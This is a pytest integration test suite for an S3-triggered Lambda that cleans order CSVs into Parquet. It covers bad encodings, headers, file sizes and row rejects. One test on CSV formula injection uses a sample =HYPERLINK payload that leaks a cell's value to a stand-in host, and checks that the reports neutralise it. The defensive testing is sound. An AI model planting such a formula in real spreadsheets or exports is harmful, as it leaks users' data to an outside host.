"""The adversarial catalogue: every messy input the issue lists, through the real handler.

Each test states the expected outcome in its docstring. The promise checked
throughout: every data row read is either in the dataset or in a rejects file
with a reason, ``rows_read == rows_loaded + rows_rejected``, and a file that
can never load gets an error record instead of being retried.
"""

from __future__ import annotations

import csv
import gzip
import io
import json
import re
from collections.abc import Iterator
from typing import Any
from urllib.parse import quote_plus

import awswrangler as wr
import boto3
import pyarrow.parquet as pq
import pytest

from lambda_app.cleaning import REASONS, REJECTS_SCHEMA
from lambda_app.schema import DATASET_SCHEMA
from orders_tools import s3_events as events
from orders_tools.emulator import LocalAws
from tests.helpers import (
    CANONICAL_HEADER,
    EVENT_TIME,
    csv_bytes,
    error_key,
    line,
    manifest_key,
    output_keys,
    read_output,
    rejects_key,
    report_rows,
    upload_and_deliver,
)

pytestmark = pytest.mark.integration

DAY = "2026/11/26"
PARTITION = "ingest_date=2026-11-26"
REPORT_HEADERS = {
    "most_profitable_region": ["region", "total_profit"],
    "shipping_method_by_category": ["category", "ship_mode", "order_count"],
    "orders_by_category": ["category", "sub_category", "order_count"],
}


# --- helpers ---------------------------------------------------------------------------------


def only_file(summary: dict[str, Any]) -> dict[str, Any]:
    """The summary entry of a one-record event."""
    assert len(summary["files"]) == 1, summary
    return dict(summary["files"][0])


def rows(aws: LocalAws, *columns: str) -> list[tuple[Any, ...]]:
    """The dataset's rows (selected columns, Python values), sorted; ``[]`` when nothing was loaded."""
    found: list[tuple[Any, ...]] = []
    for key in output_keys(aws, "dataset/"):
        table = pq.read_table(io.BytesIO(read_output(aws, key)))
        found.extend(tuple(row[c] for c in columns) for row in table.to_pylist())
    return sorted(found, key=lambda row: tuple("" if v is None else str(v) for v in row))


def json_object(aws: LocalAws, key: str) -> dict[str, Any]:
    return dict(json.loads(read_output(aws, key)))


def manifest(aws: LocalAws, key: str) -> dict[str, Any]:
    """The run manifest of a processed file, after checking that its counts reconcile."""
    document = json_object(aws, manifest_key(aws, key))
    assert document["rows_read"] == document["rows_loaded"] + document["rows_rejected"]
    assert sum(document["rejected_by_reason"].values()) == document["rows_rejected"]
    return document


def csv_rows(data: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8"))))


def assert_rejected_file(aws: LocalAws, key: str, summary: dict[str, Any], reason: str) -> dict[str, Any]:
    """A bad file: status rejected_file, an error record, no manifest, nothing loaded, no reports."""
    assert only_file(summary) == {
        "key": key,
        "status": "rejected_file",
        "reason": reason,
        "rows_read": summary["files"][0]["rows_read"],
        "rows_loaded": 0,
        "rows_rejected": summary["files"][0]["rows_rejected"],
    }
    record = json_object(aws, error_key(aws, key))
    assert (record["status"], record["reason"], record["rows_loaded"], record["objects_written"]) == (
        "rejected_file",
        reason,
        0,
        [],
    )
    assert output_keys(aws, "dataset/") == []
    assert output_keys(aws, "runs/") == []
    assert output_keys(aws, "analytics/") == []
    return record


def deliver_records(aws: LocalAws, uploads: Iterator[tuple[str, bytes]]) -> dict[str, Any]:
    """Upload several objects and deliver one S3 event carrying a record for each."""
    records: list[dict[str, Any]] = []
    for key, body in uploads:
        head = aws.upload(key, body)
        records.extend(aws.object_created_event(key, head, EVENT_TIME)["Records"])
    return aws.deliver(events.s3_event(*records))


# --- object and event shapes -----------------------------------------------------------------


def test_zero_byte_object_is_an_empty_file(aws: LocalAws) -> None:
    """Expected: rejected_file "empty_file", error record, no manifest, no dataset rows, no retry."""
    summary = upload_and_deliver(aws, "empty.csv", b"")
    record = assert_rejected_file(aws, "empty.csv", summary, "empty_file")
    assert (record["rows_read"], record["size"]) == (0, 0)


def test_header_only_file_loads_zero_rows(aws: LocalAws) -> None:
    """Expected: status loaded with 0 rows read; a manifest saying so; no Parquet object; empty reports."""
    summary = upload_and_deliver(aws, "header.csv", (CANONICAL_HEADER + "\r\n").encode())
    assert only_file(summary) == {
        "key": "header.csv",
        "status": "loaded",
        "reason": None,
        "rows_read": 0,
        "rows_loaded": 0,
        "rows_rejected": 0,
    }
    document = manifest(aws, "header.csv")
    assert (document["rows_read"], document["objects_written"]) == (0, [])
    assert output_keys(aws, "dataset/") == []
    for name, header in REPORT_HEADERS.items():
        assert report_rows(aws, name) == [header]


def test_header_only_file_without_a_final_line_break_loads_zero_rows(aws: LocalAws) -> None:
    """Expected: the same as a header-only file with a line break (it was "unreadable_file" before the fix)."""
    summary = upload_and_deliver(aws, "header.csv", CANONICAL_HEADER.encode())
    assert (only_file(summary)["status"], only_file(summary)["rows_read"]) == ("loaded", 0)
    assert manifest(aws, "header.csv")["rows_read"] == 0
    assert output_keys(aws, "errors/") == []


def test_folder_placeholder_key_is_skipped(aws: LocalAws) -> None:
    """Expected: the ``dir/`` record is skipped as "folder placeholder"; nothing is written."""
    head = aws.upload("incoming/2026/", b"")
    summary = aws.deliver(aws.object_created_event("incoming/2026/", head, EVENT_TIME))
    assert summary["files"] == []
    assert summary["skipped"] == [{"key": "incoming/2026/", "reason": "folder placeholder"}]
    assert output_keys(aws) == []


def test_s3_test_event_is_skipped(aws: LocalAws) -> None:
    """Expected: S3's ``s3:TestEvent`` (sent when a notification is configured) is skipped; nothing written."""
    message = {
        "Service": "Amazon S3",
        "Event": "s3:TestEvent",
        "Time": "2026-11-26T10:30:00.000Z",
        "Bucket": aws.input_bucket,
        "RequestId": "5582815E1AEA5ADF",
        "HostId": "8cLeGAmw098X5cv4Zkwcmo8vvZa3eH3eKxsPzbB9wrR+YstdA6Knx4Ip8EXAMPLE",
    }
    summary = aws.deliver(message)
    assert (summary["files"], summary["skipped"]) == ([], [{"key": None, "reason": "not_an_object_event"}])
    assert output_keys(aws) == []


def test_non_csv_keys_are_skipped_even_with_csv_content(aws: LocalAws) -> None:
    """Expected: ``.txt``, ``.csv.gz``, ``.csv.bak``, ``.parquet`` and extension-less keys: "not a .csv key"."""
    keys = ["notes.txt", "orders.csv.gz", "orders.csv.bak", "orders.parquet", "csv"]
    summary = deliver_records(aws, ((key, csv_bytes(line())) for key in keys))
    assert summary["files"] == []
    assert summary["skipped"] == [{"key": key, "reason": "not a .csv key"} for key in keys]
    assert output_keys(aws) == []


def test_upper_and_mixed_case_csv_extensions_load(aws: LocalAws) -> None:
    """Expected: ``.CSV`` and ``.Csv`` are CSV files: both loaded, manifests under their exact keys."""
    summary = deliver_records(aws, iter([("UPPER.CSV", csv_bytes(line("U"))), ("Mixed.Csv", csv_bytes(line("M")))]))
    assert [(f["key"], f["status"], f["rows_loaded"]) for f in summary["files"]] == [
        ("UPPER.CSV", "loaded", 1),
        ("Mixed.Csv", "loaded", 1),
    ]
    assert rows(aws, "order_id", "source_key") == [("M", "Mixed.Csv"), ("U", "UPPER.CSV")]
    assert manifest(aws, "UPPER.CSV")["rows_loaded"] == 1


def test_keys_with_spaces_plus_percent_unicode_and_nested_prefixes(aws: LocalAws) -> None:
    """Expected: keys arrive URL-encoded; each is decoded, read, and named decoded in lineage and outputs."""
    keys = [
        "incoming/2026/11/Q4 orders + returns.csv",
        "incoming/ünïcödé/注文 (1).csv",
        "a/b/c/d/e/f/100% done.csv",
    ]
    records: list[dict[str, Any]] = []
    for i, key in enumerate(keys):
        head = aws.upload(key, csv_bytes(line(f"K{i}")))
        records.extend(aws.object_created_event(key, head, EVENT_TIME)["Records"])
    encoded = [r["s3"]["object"]["key"] for r in records]
    assert encoded == [quote_plus(k, safe="/") for k in keys]
    assert encoded[0] == "incoming/2026/11/Q4+orders+%2B+returns.csv"
    assert encoded[2] == "a/b/c/d/e/f/100%25+done.csv"

    summary = aws.deliver(events.s3_event(*records))
    assert [(f["key"], f["status"]) for f in summary["files"]] == [(k, "loaded") for k in keys]
    assert rows(aws, "order_id", "source_key") == [("K0", keys[0]), ("K1", keys[1]), ("K2", keys[2])]
    assert output_keys(aws, "runs/") == sorted(manifest_key(aws, k) for k in keys)
    assert manifest(aws, keys[1])["key"] == keys[1]


def test_an_event_with_ten_records_processes_each_record(aws: LocalAws) -> None:
    """Expected: 10 records = 7 good files (loaded), 1 file missing a column (rejected_file),
    a folder placeholder and a ``.txt`` (skipped); the day's reports cover the 7 good files."""
    uploads = [(f"batch/file-{i}.csv", csv_bytes(line(f"B{i}", region=f"R{i}"))) for i in range(7)]
    uploads.insert(3, ("batch/no-region.csv", csv_bytes("X,2023-01-01", header="Order Id,Order Date")))
    uploads += [("batch/", b""), ("batch/readme.txt", b"hello")]
    summary = deliver_records(aws, iter(uploads))
    assert len(uploads) == 10
    assert [(f["key"], f["status"], f["rows_loaded"]) for f in summary["files"]] == [
        *((f"batch/file-{i}.csv", "loaded", 1) for i in range(3)),
        ("batch/no-region.csv", "rejected_file", 0),
        *((f"batch/file-{i}.csv", "loaded", 1) for i in range(3, 7)),
    ]
    assert summary["skipped"] == [
        {"key": "batch/", "reason": "folder placeholder"},
        {"key": "batch/readme.txt", "reason": "not a .csv key"},
    ]
    assert [r[0] for r in rows(aws, "order_id")] == [f"B{i}" for i in range(7)]
    assert report_rows(aws, "most_profitable_region")[1:] == [[f"R{i}", "29.60"] for i in range(7)]
    assert output_keys(aws, "errors/") == [error_key(aws, "batch/no-region.csv")]


# --- headers and columns ---------------------------------------------------------------------


def test_missing_required_columns_reject_the_file_naming_them(aws: LocalAws) -> None:
    """Expected: rejected_file "missing_columns"; the detail names every missing column, sorted."""
    header = CANONICAL_HEADER.replace("Region,", "").replace("Ship Mode,", "")
    body = csv_bytes("CA-1,2023-09-05,Consumer,US,SF,CA,94109,Furniture,Bookcases,P,240,260,2,2", header=header)
    summary = upload_and_deliver(aws, "no-region.csv", body)
    record = assert_rejected_file(aws, "no-region.csv", summary, "missing_columns")
    assert record["detail"] == "missing required column(s): region, ship_mode"


@pytest.mark.parametrize(
    "header",
    [
        CANONICAL_HEADER + ",Region",  # the same name twice
        CANONICAL_HEADER + ",sub-category",  # two spellings of one column
    ],
    ids=["same-name", "two-spellings"],
)
def test_duplicate_header_names_reject_the_file(aws: LocalAws, header: str) -> None:
    """Expected: rejected_file "duplicate_columns" (which value would be right is unknowable)."""
    summary = upload_and_deliver(aws, "dup.csv", csv_bytes(line() + ",extra", header=header))
    record = assert_rejected_file(aws, "dup.csv", summary, "duplicate_columns")
    assert "appears more than once" in record["detail"]


def test_extra_and_reordered_columns_load_and_never_reach_the_table(aws: LocalAws) -> None:
    """Expected: loaded; values follow their header names; unknown columns (even duplicated ones)
    are ignored, and the Glue table keeps exactly the schema's columns."""
    header = (
        "Notes,Quantity,Region,Internal Margin,Order Id,Category,Sub-Category,Notes,Order Date,Ship Mode,"
        "Discount Percent,List Price,Cost Price"
    )
    body = csv_bytes("n1,3,East,0.5,R-1,Technology,Phones,n2,1/2/2024,First Class,10,100,50", header=header)
    summary = upload_and_deliver(aws, "reordered.csv", body)
    assert only_file(summary)["status"] == "loaded"
    # (100 * 0.9 - 50) * 3 = 120
    assert rows(aws, "order_id", "region", "category", "sub_category", "quantity", "profit", "city") == [
        ("R-1", "East", "Technology", "Phones", 3, pytest.approx(120.0), None)
    ]
    table = wr.catalog.table(database="orders_analytics", table="orders")
    assert list(table["Column Name"]) == [*DATASET_SCHEMA.names, "ingest_date"]


def test_utf8_bom_is_not_part_of_the_first_column_name(aws: LocalAws) -> None:
    """Expected: loaded; the BOM does not turn "Order Id" into an unknown column."""
    summary = upload_and_deliver(aws, "bom.csv", b"\xef\xbb\xbf" + csv_bytes(line("BOM-1")))
    assert only_file(summary)["status"] == "loaded"
    assert rows(aws, "order_id") == [("BOM-1",)]
    assert manifest(aws, "bom.csv")["encoding"] == "utf-8"


@pytest.mark.parametrize("newline", ["\r\n", "\n", "\r"], ids=["crlf", "lf", "cr-only"])
def test_line_endings_crlf_lf_and_lone_cr(aws: LocalAws, newline: str) -> None:
    """Expected: loaded whatever the line ending; no CR is left in the last column (discount parses)."""
    body = csv_bytes(line("A", discount="5"), line("B", discount="15"), newline=newline)
    summary = upload_and_deliver(aws, "ends.csv", body)
    assert (only_file(summary)["rows_read"], only_file(summary)["rows_loaded"]) == (2, 2)
    assert rows(aws, "order_id", "discount_percent") == [("A", 5.0), ("B", 15.0)]


def test_windows_1252_file_is_decoded(aws: LocalAws) -> None:
    """Expected: loaded; cp1252 bytes (é, ñ, €) decoded; manifest encoding "cp1252"; reports in UTF-8."""
    body = csv_bytes(line("W-1", category="Café Furniture", sub_category="Niño €uro")).decode().encode("cp1252")
    summary = upload_and_deliver(aws, "legacy.csv", body)
    assert only_file(summary)["status"] == "loaded"
    assert rows(aws, "category", "sub_category") == [("Café Furniture", "Niño €uro")]
    assert manifest(aws, "legacy.csv")["encoding"] == "cp1252"
    assert report_rows(aws, "orders_by_category")[1:] == [["Café Furniture", "Niño €uro", "1"]]


def test_windows_1252_byte_after_the_first_mebibyte_restarts_the_read_cleanly(
    aws: LocalAws, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Expected: a file that looks like UTF-8 for its first MiB but is cp1252 is read again from the
    start as cp1252: every row loaded exactly once, and nothing written by the first pass remains."""
    monkeypatch.setenv("ROWS_PER_FILE", "3000")
    monkeypatch.setenv("CSV_BLOCK_BYTES", str(256 * 1024))
    body = csv_bytes(*(line(f"O{i}") for i in range(9000)), line("LAST", category="Café"), newline="\n")
    body = body.replace("Café".encode(), "Café".encode("cp1252"))
    assert len(body) > 1024 * 1024 and body.index("Café".encode("cp1252")) > 1024 * 1024
    summary = upload_and_deliver(aws, "late-1252.csv", body)
    assert (only_file(summary)["status"], only_file(summary)["rows_loaded"]) == ("loaded", 9001)
    document = manifest(aws, "late-1252.csv")
    assert document["encoding"] == "cp1252"
    loaded = rows(aws, "order_id", "category")
    assert len(loaded) == 9001 and len({r[0] for r in loaded}) == 9001
    assert ("LAST", "Café") in loaded
    assert output_keys(aws, "dataset/") == sorted(document["objects_written"])


def test_quoted_commas_quotes_and_embedded_newlines_stay_in_their_values(aws: LocalAws) -> None:
    """Expected: loaded with the values exactly as quoted; the report CSV quotes them back correctly."""
    row = (
        'Q-1,2023-09-05,Standard Class,Consumer,United States,"Portland, OR",Oregon,97201,West,'
        '"Office\nSupplies","Binders, ""Heavy"" Duty",OFF-1,10,20,1,0'
    )
    summary = upload_and_deliver(aws, "quoted.csv", csv_bytes(row, line("Q-2")))
    assert (only_file(summary)["rows_read"], only_file(summary)["rows_loaded"]) == (2, 2)
    assert rows(aws, "order_id", "city", "category", "sub_category") == [
        ("Q-1", "Portland, OR", "Office\nSupplies", 'Binders, "Heavy" Duty'),
        ("Q-2", "San Francisco", "Furniture", "Bookcases"),
    ]
    assert report_rows(aws, "orders_by_category")[1:] == [
        ["Furniture", "Bookcases", "1"],
        ["Office\nSupplies", 'Binders, "Heavy" Duty', "1"],
    ]


@pytest.mark.parametrize(
    "body",
    [
        b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x10" + bytes(range(256)) * 8,
        gzip.compress(csv_bytes(line()), mtime=0),
        bytes(range(1, 256)) * 20,  # no NUL byte, but bytes undefined in both UTF-8 and cp1252
    ],
    ids=["png", "gzipped-csv", "high-bytes"],
)
def test_binary_garbage_is_an_unreadable_file(aws: LocalAws, body: bytes) -> None:
    """Expected: rejected_file "unreadable_file" with no row read (not a crash, not a retry)."""
    summary = upload_and_deliver(aws, "garbage.csv", body)
    record = assert_rejected_file(aws, "garbage.csv", summary, "unreadable_file")
    assert record["rows_read"] == 0


@pytest.mark.parametrize(
    "size",
    [1_000_000, 1024 * 1024 + 1],
    ids=["1MB-below-sniff-window", "just-over-1MiB"],
)
def test_a_single_megabyte_line_is_an_unreadable_file(aws: LocalAws, size: int) -> None:
    """Expected: one 1 MB line with no line break is rejected_file "unreadable_file". (The 1,000,000-byte
    case used to crash with ``_csv.Error: field larger than field limit`` and be retried for ever.)"""
    summary = upload_and_deliver(aws, "one-line.csv", b"x" * size)
    assert_rejected_file(aws, "one-line.csv", summary, "unreadable_file")


def test_a_data_row_longer_than_the_read_block_is_an_unreadable_file(
    aws: LocalAws, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Expected: with CSV_BLOCK_BYTES=256 KiB, a 1 MB data row is rejected_file "unreadable_file" whose
    detail names the block size: memory stays bounded by the block, and the operator knows what to raise."""
    monkeypatch.setenv("CSV_BLOCK_BYTES", str(256 * 1024))
    summary = upload_and_deliver(aws, "long-row.csv", csv_bytes(line("A"), line("B", category="y" * 1_000_000)))
    record = assert_rejected_file(aws, "long-row.csv", summary, "unreadable_file")
    assert "longer than CSV_BLOCK_BYTES (262144)" in record["detail"]


def test_object_larger_than_the_maximum_is_refused_before_reading(
    aws: LocalAws, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Expected: rejected_file "file_too_large" naming both sizes; not a byte of it is parsed."""
    monkeypatch.setenv("MAX_OBJECT_BYTES", "1024")
    body = csv_bytes(*(line(f"O{i}") for i in range(20)))
    summary = upload_and_deliver(aws, "huge.csv", body)
    record = assert_rejected_file(aws, "huge.csv", summary, "file_too_large")
    assert record["detail"] == f"the object is {len(body)} bytes; MAX_OBJECT_BYTES allows 1024"
    assert record["rows_read"] == 0


# --- values ----------------------------------------------------------------------------------


def test_leading_and_trailing_spaces_are_trimmed_but_kept_in_rejects(aws: LocalAws) -> None:
    """Expected: good rows load trimmed (" West " and "West" are one region in the reports); a row whose
    order id is only spaces is rejected "missing_order_id" with its original, untrimmed values."""
    body = csv_bytes(
        line(
            "  S-1 ", region=" West ", category="\tFurniture ", quantity=" 2 ", discount=" 2 % ", ship_mode=" Same Day"
        ),
        line("S-2", region="West"),
        line("S-3", region="West"),
        line("S-4", region="West"),
        line("   ", region=" East "),
    )
    summary = upload_and_deliver(aws, "spaces.csv", body)
    assert only_file(summary) == {
        "key": "spaces.csv",
        "status": "loaded",
        "reason": None,
        "rows_read": 5,
        "rows_loaded": 4,
        "rows_rejected": 1,
    }
    assert rows(aws, "order_id", "region", "category", "ship_mode", "quantity", "discount_percent")[0] == (
        "S-1",
        "West",
        "Furniture",
        "Same Day",
        2,
        2.0,
    )
    assert report_rows(aws, "most_profitable_region")[1:] == [["West", "118.40"]]
    rejected = csv_rows(read_output(aws, rejects_key(aws, "spaces.csv")))
    assert [(r["reject_reason"], r["order_id"], r["region"]) for r in rejected] == [
        ("missing_order_id", "   ", " East ")
    ]


def test_formula_like_text_is_neutralised_in_reports_but_stored_as_is(aws: LocalAws) -> None:
    """Expected: loaded unchanged into the dataset; in the report CSVs every cell starting with
    ``= + - @`` gets a leading ``'`` so a spreadsheet shows text instead of running it."""
    hyperlink = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
    quoted_hyperlink = '"' + hyperlink.replace('"', '""') + '"'
    body = csv_bytes(
        line("F-1", region="@x", category=quoted_hyperlink, sub_category="+1", ship_mode="-2"),
        line("F-2", region="=1+1", category="+1", sub_category="-2", ship_mode="@SUM(A1)"),
    )
    summary = upload_and_deliver(aws, "formulas.csv", body)
    assert only_file(summary)["rows_loaded"] == 2
    assert rows(aws, "region", "category", "sub_category", "ship_mode") == [
        ("=1+1", "+1", "-2", "@SUM(A1)"),
        ("@x", hyperlink, "+1", "-2"),
    ]
    assert report_rows(aws, "most_profitable_region")[1:] == [["'=1+1", "29.60"], ["'@x", "29.60"]]
    assert report_rows(aws, "shipping_method_by_category")[1:] == [
        ["'+1", "'@SUM(A1)", "1"],
        ["'" + hyperlink, "'-2", "1"],
    ]
    assert report_rows(aws, "orders_by_category")[1:] == [["'+1", "'-2", "1"], ["'" + hyperlink, "'+1", "1"]]


def test_each_kind_of_bad_row_is_rejected_with_its_reason_and_good_rows_load(aws: LocalAws) -> None:
    """Expected: 33 good + 11 bad rows (one per reason) = 25 % rejected, exactly MAX_REJECT_RATIO, so the
    file loads (only a larger share is a bad file). The rejects CSV holds the 11 rows with original values;
    the manifest counts each under its reason and reconciles 44 = 33 + 11."""
    bad = {
        "missing_order_id": line(""),
        "missing_region": line("r", region=""),
        "missing_category": line("c", category=" "),
        "missing_sub_category": line("s", sub_category=""),
        "invalid_order_date": line("d", order_date="2023-02-30"),
        "invalid_cost_price": line("cp", cost="-0.01"),
        "invalid_list_price": line("lp", price="12,50".join('""')),
        "invalid_quantity": line("q", quantity="1.5"),
        "invalid_discount_percent": line("dp", discount="100.5"),
        "invalid_profit": line("pf", price="1e308", quantity="10"),  # finite inputs, an infinite profit
        "malformed_row": "M-1,2023-09-05,too,few,fields",
    }
    assert sorted(bad) == sorted(REASONS)
    good = [line(f"G{i}") for i in range(33)]
    summary = upload_and_deliver(aws, "mixed.csv", csv_bytes(*good[:15], *bad.values(), *good[15:]))
    assert only_file(summary) == {
        "key": "mixed.csv",
        "status": "loaded",
        "reason": None,
        "rows_read": 44,
        "rows_loaded": 33,
        "rows_rejected": 11,
    }
    document = manifest(aws, "mixed.csv")
    assert document["rejected_by_reason"] == dict.fromkeys(sorted(REASONS), 1)
    assert rejects_key(aws, "mixed.csv") in document["objects_written"]
    assert [r[0] for r in rows(aws, "order_id")] == sorted(f"G{i}" for i in range(33))

    rejected = csv_rows(read_output(aws, rejects_key(aws, "mixed.csv")))
    assert list(rejected[0]) == REJECTS_SCHEMA.names
    by_reason = {r["reject_reason"]: r for r in rejected}
    assert sorted(by_reason) == sorted(REASONS)
    assert by_reason["invalid_list_price"]["list_price"] == "12,50"
    assert by_reason["missing_category"]["category"] == " "
    assert by_reason["invalid_cost_price"]["cost_price"] == "-0.01"
    assert by_reason["malformed_row"]["raw_line"] == "M-1,2023-09-05,too,few,fields"


def test_a_file_with_too_many_bad_rows_is_a_bad_file_and_the_previous_load_stays(
    aws: LocalAws, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Expected: 2 good + 1 bad (33 % > 25 %) is rejected_file "too_many_rejects": nothing of it is loaded,
    the previous version of the key stays in the dataset, and the error record points at a rejects CSV
    beside it. With MAX_REJECT_RATIO=0.5 the very same file loads with 1 reject."""
    upload_and_deliver(aws, "daily.csv", csv_bytes(line("OLD-1"), line("OLD-2")))
    body = csv_bytes(line("NEW-1"), line("NEW-2"), line("NEW-BAD", order_date="31/12/2023"))
    summary = upload_and_deliver(aws, "daily.csv", body)
    assert only_file(summary) == {
        "key": "daily.csv",
        "status": "rejected_file",
        "reason": "too_many_rejects",
        "rows_read": 3,
        "rows_loaded": 0,
        "rows_rejected": 1,
    }
    record = json_object(aws, error_key(aws, "daily.csv"))
    assert record["detail"] == ("1 of 3 rows failed validation (more than MAX_REJECT_RATIO=0.25); nothing was loaded")
    assert record["rejected_by_reason"] == {"invalid_order_date": 1}
    assert re.fullmatch(
        rf"errors/{DAY}/{aws.input_bucket}/daily\.csv\.[0-9a-f]{{12}}\.rejects\.csv", record["rejects_object"]
    )
    assert [r["order_id"] for r in csv_rows(read_output(aws, record["rejects_object"]))] == ["NEW-BAD"]
    assert rows(aws, "order_id") == [("OLD-1",), ("OLD-2",)]

    monkeypatch.setenv("MAX_REJECT_RATIO", "0.5")
    s3 = boto3.client("s3")
    head = s3.head_object(Bucket=aws.input_bucket, Key="daily.csv")
    summary = aws.deliver(aws.object_created_event("daily.csv", head, EVENT_TIME))
    assert (only_file(summary)["status"], only_file(summary)["rows_loaded"]) == ("loaded", 2)
    assert rows(aws, "order_id") == [("NEW-1",), ("NEW-2",)]
    assert output_keys(aws, "errors/") == []  # the error record and its rejects are superseded
